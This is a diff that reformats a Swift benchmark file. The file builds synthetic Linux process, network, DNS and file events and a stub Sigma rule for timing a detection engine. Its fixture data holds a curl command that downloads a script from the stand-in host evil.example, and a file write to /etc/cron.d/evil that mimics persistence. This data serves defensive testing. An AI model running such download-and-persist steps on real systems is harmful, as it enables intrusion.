@@ -17,31 +17,47 @@ public enum AlertBenchmark {
             ("UtcTime", "2027-01-15 08:00:00.500"), ("ProcessGuid", "{01234567-89ab-cdef-0123-456789abcdef}"), ("ProcessId", 4242),
             ("Image", "/usr/bin/curl"), ("CommandLine", "curl -sSL -o /tmp/x.sh https://evil.example/p/x.sh"), ("CurrentDirectory", "/home/user"),
             ("User", "user"), ("LogonId", 1000), ("ParentProcessGuid", "{01234567-89ab-cdef-0123-456789abcdee}"), ("ParentProcessId", 4000),
-            ("ParentImage", "/usr/bin/bash"), ("ParentCommandLine", "bash"),
+            ("ParentImage", "/usr/bin/bash"), ("ParentCommandLine", "bash")
         ]
         return [
             ("process_creation", Event(logsource: LogSource(product: "linux", category: "process_creation"), timestamp: 1_800_000_000.5, fields: base)),
-            ("network_connection", Event(logsource: LogSource(product: "linux", category: "network_connection"), timestamp: 1_800_000_000.5, fields: Array(base.prefix(7)) + [
-                ("Protocol", "tcp"), ("Initiated", .bool(true)), ("SourceIsIpv6", .bool(false)), ("SourceIp", "10.0.0.2"), ("SourcePort", 50123),
-                ("DestinationIsIpv6", .bool(false)), ("DestinationIp", "203.0.113.9"), ("DestinationPort", 443),
-                ("DestinationHostname", "evil.example"), ("Syscall", "connect"), ("Result", "success"),
-            ])),
-            ("dns_query", Event(logsource: LogSource(product: "linux", category: "dns_query"), timestamp: 1_800_000_000.5, fields: Array(base.prefix(7)) + [
-                ("QueryName", "evil.example"), ("QueryType", "A"), ("QueryStatus", "0"), ("QueryStatusName", "NOERROR"),
-                ("QueryResults", "type:  5 cdn.evil.example;203.0.113.9;"), ("DnsServer", "127.0.0.53"), ("Protocol", "udp"),
-            ])),
-            ("file_event", Event(logsource: LogSource(product: "linux", category: "file_event"), timestamp: 1_800_000_000.5, fields: Array(base.prefix(7)) + [
-                ("TargetFilename", "/etc/cron.d/evil"), ("CreationUtcTime", "2027-01-15 08:00:00.500"),
-            ])),
+            (
+                "network_connection",
+                Event(
+                    logsource: LogSource(product: "linux", category: "network_connection"), timestamp: 1_800_000_000.5,
+                    fields: Array(base.prefix(7)) + [
+                        ("Protocol", "tcp"), ("Initiated", .bool(true)), ("SourceIsIpv6", .bool(false)), ("SourceIp", "10.0.0.2"), ("SourcePort", 50123),
+                        ("DestinationIsIpv6", .bool(false)), ("DestinationIp", "203.0.113.9"), ("DestinationPort", 443),
+                        ("DestinationHostname", "evil.example"), ("Syscall", "connect"), ("Result", "success")
+                    ])
+            ),
+            (
+                "dns_query",
+                Event(
+                    logsource: LogSource(product: "linux", category: "dns_query"), timestamp: 1_800_000_000.5,
+                    fields: Array(base.prefix(7)) + [
+                        ("QueryName", "evil.example"), ("QueryType", "A"), ("QueryStatus", "0"), ("QueryStatusName", "NOERROR"),
+                        ("QueryResults", "type:  5 cdn.evil.example;203.0.113.9;"), ("DnsServer", "127.0.0.53"), ("Protocol", "udp")
+                    ])
+            ),
+            (
+                "file_event",
+                Event(
+                    logsource: LogSource(product: "linux", category: "file_event"), timestamp: 1_800_000_000.5,
+                    fields: Array(base.prefix(7)) + [
+                        ("TargetFilename", "/etc/cron.d/evil"), ("CreationUtcTime", "2027-01-15 08:00:00.500")
+                    ])
+            )
         ]
     }
 
     /// A Sigma rule of category `c` with the metadata an alert carries.
     public static func rule(_ c: String) -> SigmaRuleInfo {
-        SigmaRuleInfo(id: "0f9f3d32-2a4f-4b4b-9e0a-6f3c0c0a1b2c", title: "Bench rule", description: "A rule that fires",
-                      level: .high, author: "Alice (Example Org), Bob", tags: ["attack.execution", "attack.t1059.004"],
-                      references: ["https://attack.mitre.org/techniques/T1059/004/"],
-                      logsource: LogSource(product: "linux", category: c), path: "bench.yml")
+        SigmaRuleInfo(
+            id: "0f9f3d32-2a4f-4b4b-9e0a-6f3c0c0a1b2c", title: "Bench rule", description: "A rule that fires",
+            level: .high, author: "Alice (Example Org), Bob", tags: ["attack.execution", "attack.t1059.004"],
+            references: ["https://attack.mitre.org/techniques/T1059/004/"],
+            logsource: LogSource(product: "linux", category: c), path: "bench.yml")
     }
 
     /// The exec shape with its rule and context (package-benchmark's EDRMicro).
